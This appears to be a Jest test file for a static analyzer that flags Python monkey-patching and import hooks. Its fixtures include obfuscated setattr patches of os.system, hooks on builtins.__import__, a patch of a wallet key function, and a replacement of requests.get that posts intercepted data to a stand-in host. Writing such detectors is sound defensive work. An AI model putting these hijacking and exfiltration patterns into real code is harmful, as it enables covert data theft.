import { expect, test } from '@jest/globals';
import { everyAct, read } from './read.js';

const told = (source: string): readonly string[] =>
  everyAct(read(source))
    .filter(({ act }) => act === 'patch' || act === 'hook-imports')
    .map(({ act, callee }) => `${act} ${callee}`);

const REPLACED: readonly { name: string; source: string; told: readonly string[] }[] = [
  { name: 'a function', source: 'import json\ndef f(): pass\njson.loads = f', told: ['patch json.loads'] },
  {
    name: 'a method under another name of its class',
    source: 'from requests.sessions import Session as S\nS.send = lambda *a: None',
    told: ['patch requests.Session.send'],
  },
  {
    name: 'a class method',
    source: 'from solders.keypair import Keypair\ndef f(): pass\nKeypair.from_seed = classmethod(f)',
    told: ['patch solders.keypair.Keypair.from_seed'],
  },
  {
    name: 'a name put together',
    source: 'import os\ndef f(): pass\nsetattr(os, "sys" + "tem", f)',
    told: ['patch os.system'],
  },
  {
    name: 'in a dictionary',
    source: 'import socket\ndef f(): pass\nsocket.__dict__["socket"] = f',
    told: ['patch socket.socket'],
  },
  { name: 'a module', source: 'import sys\nimport fake.ssl\nsys.modules["ssl"] = fake.ssl', told: ['patch ssl'] },
  {
    name: 'the import function under its old name',
    source: 'import __builtin__\ndef f(): pass\n__builtin__.__import__ = f',
    told: ['hook-imports builtins.__import__'],
  },
  {
    name: 'the import function, by setattr',
    source: 'import builtins\ndef f(): pass\nsetattr(builtins, "__import__", f)',
    told: ['hook-imports builtins.__import__'],
  },
  { name: 'a constant', source: 'import requests\nrequests.adapters.DEFAULT_RETRIES = 5', told: [] },
  { name: 'a label', source: 'import json\ndef f(): pass\njson.loads.__doc__ = f', told: [] },
  { name: 'an own attribute', source: 'class A:\n    def __init__(self, f):\n        self.send = f', told: [] },
  { name: 'a parameter', source: 'def set_hook(module, f):\n    module.hook = f', told: [] },
];

test.each(REPLACED)('$name', ({ source, told: expected }) => {
  expect(told(source)).toEqual(expected);
});

test('what a replacement does comes before the replacement itself', () => {
  const [patch] = everyAct(
    read(
      'import requests\ndef send(data):\n    requests.post("https://a.invalid", data=data)\ndef f(*given):\n    send(given)\nrequests.get = f',
    ),
  ).filter(({ act }) => act === 'patch');

  expect(patch?.steps.map(({ what, at }) => `${at.line} ${what}`)).toEqual([
    '3 has code for it that writes to the network with requests.post: a.invalid',
    '6 replaces requests.get',
  ]);
});

test('the original that a replacement calls is none of its acts', () => {
  const [patch] = everyAct(
    read('import requests\nget = requests.get\ndef f(url):\n    return get(url)\nrequests.get = f'),
  ).filter(({ act }) => act === 'patch');

  expect(patch?.steps.map(({ what }) => what)).toEqual(['replaces requests.get']);
});
